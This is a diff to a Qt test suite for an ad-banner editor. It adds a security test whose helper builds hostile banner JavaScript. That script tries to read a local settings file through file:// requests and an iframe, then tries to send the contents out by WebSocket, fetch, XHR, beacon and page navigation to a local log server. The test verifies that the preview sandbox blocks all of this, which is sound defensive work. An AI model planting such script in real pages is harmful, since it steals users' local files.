@@ -12,10 +12,12 @@
 #include "gui/common/bannerdrag.h"
 #include "gui/common/datatext.h"
 #include "gui/common/messagebox.h"
+#include "gui/common/webpane.h"
 #include "gui/documents/adtreemodel.h"
 #include "gui/documents/documentsarea.h"
 #include "gui/documents/documenttab.h"
 #include "gui/documents/scintillapageeditor.h"
+#include "gui/formserver.h"
 #include "gui/mainwindow.h"
 #include "gui/workspace.h"
 #include "net/curlftpclient.h"
@@ -33,6 +35,7 @@
 #include <QMenu>
 #include <QMimeData>
 #include <QPushButton>
+#include <QSignalSpy>
 #include <QTabWidget>
 #include <QTemporaryDir>
 #include <QTest>
@@ -174,7 +177,11 @@ private:
         QTest::mouseClick(header->viewport(), Qt::LeftButton, {}, at);
     }
 
-    std::string previewFile() { return ReadFile(m_form->workspace().ScratchFiles[1]); }
+    std::string previewFile()
+    {
+        // The main window's pane; the banner editor has a preview of the same name.
+        return m_form->findChild<QWidget*>(QStringLiteral("PnPreview"))->findChild<WebPane*>()->untrustedHtml();
+    }
 
     // Connects and opens page.html from the local folder.
     void openPage()
@@ -239,6 +246,70 @@ private:
         QVERIFY(WriteFileAtomically(m_home + "/www/page.html",
             "<p>top</p>\r\n" + BuildAdBlock(name, html, abNormal, PageEncoding::ShiftJis) + "\r\n<p>end</p>\r\n")
                     .ok);
+    }
+
+    // Runs `script` in the page of `pane` and returns its result.
+    static QVariant evaluate(WebPane* pane, const QString& script)
+    {
+        QVariant result;
+        bool done = false;
+        pane->page()->runJavaScript(script, [&](const QVariant& value) {
+            result = value;
+            done = true;
+        });
+        if (!QTest::qWaitFor([&] { return done; }, 10000))
+            return QStringLiteral("<no answer>");
+        return result;
+    }
+
+    // Banner code that shows an image from `server` and then tries to read a
+    // local file and the settings file and to send what it can: over a
+    // WebSocket, fetch, XHR, a beacon, a frame and by moving the page away.
+    static std::string HostileBanner(const pw::test::FormServer& server, const std::string& secretFile)
+    {
+        const std::string base = server.url(QString()).toStdString();
+        const std::string ws = "ws://127.0.0.1:" + std::to_string(server.port()) + "/";
+        return "<img id=\"ad\" src=\"" + base
+            + "ad.png\">\n<script>\n"
+              "var base = '"
+            + base + "', ws = '" + ws
+            + "';\n"
+              "function leak(tag, text) {\n"
+              "  try { new WebSocket(ws + 'ws-' + tag + '?' + encodeURIComponent(text)); } catch (e) {}\n"
+              "  try { fetch(base + 'fetch-' + tag + '?' + encodeURIComponent(text), { mode: 'no-cors' }); } "
+              "catch (e) {}\n"
+              "  try { var x = new XMLHttpRequest(); x.open('POST', base + 'xhr-' + tag); x.send(text); } catch "
+              "(e) {}\n"
+              "  try { navigator.sendBeacon(base + 'beacon-' + tag, text); } catch (e) {}\n"
+              "}\n"
+              "window.fileRead = false;\n"
+              "function read(url) {\n"
+              "  try { var x = new XMLHttpRequest(); x.open('GET', url, false); x.send();\n"
+              "        if (x.responseText) { window.fileRead = true; leak('file', x.responseText); } } catch (e) "
+              "{}\n"
+              "  try { fetch(url).then(function (r) { return r.text(); })\n"
+              "        .then(function (t) { window.fileRead = true; leak('fetched', t); }).catch(function () {}); "
+              "} catch (e) {}\n"
+              "}\n"
+              "leak('hello', 'x');\n"
+              "read('file://"
+            + secretFile
+            + "');\n"
+              "var f = document.createElement('iframe'); f.src = 'file://"
+            + secretFile
+            + "';\n"
+              "document.documentElement.appendChild(f);\n"
+              "setTimeout(function () { location.href = base + 'navigate'; }, 200);\n"
+              "</script>\n";
+    }
+
+    // The requests that reached the log server.
+    static QStringList LoggedRequests(const QString& logFile)
+    {
+        QFile file(logFile);
+        if (!file.open(QIODevice::ReadOnly))
+            return {};
+        return QString::fromLatin1(file.readAll()).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
     }
 
 private slots:
@@ -577,7 +648,7 @@ private slots:
             dialog.htmlEditor()->LoadPage(html, LineBreak::CrLf);
             dialog.leaveHtmlEditor();
             QCOMPARE(combo(dialog, "CBType")->currentText(), FromData(kKindImage) + QStringLiteral("468x60"));
-            QCOMPARE(ReadFile(m_form->workspace().ScratchFiles[2]), html);
+            QCOMPARE(dialog.preview()->untrustedHtml(), html);
             clickOk(dialog);
             QVERIFY(!dialog.isVisible());
         });
@@ -618,7 +689,7 @@ private slots:
             QCOMPARE(field(dialog, "EdSpace")->text(), QStringLiteral("beta"));
             QCOMPARE(field(dialog, "EdPV")->text(), QStringLiteral("10"));
             QCOMPARE(dialog.htmlText(), std::string(kBanners[0].html));
-            QCOMPARE(ReadFile(m_form->workspace().ScratchFiles[2]), std::string(kBanners[0].html));
+            QCOMPARE(dialog.preview()->untrustedHtml(), std::string(kBanners[0].html));
             field(dialog, "EdSpace")->setText(QStringLiteral("be[ta"));
             clickOk(dialog);
             QVERIFY(dialog.isVisible());
@@ -753,6 +824,49 @@ private slots:
             != std::string::npos);
         QVERIFY(bytes.find("beta") == std::string::npos);
         QVERIFY(bytes.find(block) != std::string::npos);
+    }
+
+    // Banner code is untrusted: in the preview and in the editor's preview it
+    // shows its image but reads no local file and sends nothing anywhere.
+    void hostileBannerReadsNoFileAndSendsNothing()
+    {
+        const QString logFile = m_dir.filePath(QStringLiteral("requests.log"));
+        QFile::remove(logFile);
+        pw::test::FormServer server;
+        QVERIFY(server.startScript(
+            QStringLiteral(PAGEWICK_SOURCE_DIR "/tests/gui/fixtures/log_server.py"), { logFile }));
+        writeSettings({ { "SortColumn", 0 } });
+        const std::string secret = m_settings + "/" + std::string(kMainSettingsFile);
+        QVERIFY(QFile::exists(QString::fromStdString(secret)));
+        const std::string hostile = HostileBanner(server, secret);
+        startForm();
+        catalogue().Rows[2]->BannerHTML = hostile;
+
+        auto* preview = m_form->findChild<QWidget*>(QStringLiteral("PnPreview"))->findChild<WebPane*>();
+        QSignalSpy loaded(preview, &QWebEngineView::loadFinished);
+        selectBanner("gamma");
+        QCOMPARE(previewFile(), hostile);
+        QVERIFY(QTest::qWaitFor([&] { return !loaded.isEmpty(); }, 20000));
+        // The leaks run at once; the move away after 200 ms.
+        QTest::qWait(1500);
+        QCOMPARE(evaluate(preview, QStringLiteral("document.getElementById('ad').naturalWidth")).toInt(), 2);
+        QCOMPARE(evaluate(preview, QStringLiteral("window.fileRead")).toBool(), false);
+        QCOMPARE(LoggedRequests(logFile), QStringList { QStringLiteral("GET /ad.png") });
+
+        QFile::remove(logFile);
+        withEditor("NewBanner", [&](TFmBanner& dialog) {
+            QSignalSpy editorLoaded(dialog.preview(), &QWebEngineView::loadFinished);
+            dialog.htmlEditor()->LoadPage(hostile, LineBreak::CrLf);
+            dialog.leaveHtmlEditor();
+            QCOMPARE(dialog.preview()->untrustedHtml(), dialog.htmlText());
+            QVERIFY(QTest::qWaitFor([&] { return !editorLoaded.isEmpty(); }, 20000));
+            QTest::qWait(1500);
+            QCOMPARE(
+                evaluate(dialog.preview(), QStringLiteral("document.getElementById('ad').naturalWidth")).toInt(),
+                2);
+            QCOMPARE(evaluate(dialog.preview(), QStringLiteral("window.fileRead")).toBool(), false);
+        });
+        QCOMPARE(LoggedRequests(logFile), QStringList { QStringLiteral("GET /ad.png") });
     }
 
     // Selecting no banner shows an empty page; a double click on a row runs
